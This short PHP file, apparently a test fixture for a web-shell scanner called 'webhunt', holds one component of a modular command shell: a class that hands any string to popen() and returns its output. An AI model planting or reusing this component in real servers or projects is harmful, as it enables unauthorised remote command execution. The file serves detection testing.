<?php
// Inert test sample (webhunt): one execution strategy of a modular command shell. The class does
// nothing but run the text it is handed; the request is read by a dispatcher in another file.
namespace Toolkit\Runner;

class PopenStrategy implements Strategy
{
    public function run(string $line): string
    {
        $pipe = popen($line, 'r');
        $text = '';
        while (!feof($pipe)) {
            $text .= fread($pipe, 4096);
        }
        pclose($pipe);
        return $text;
    }
}
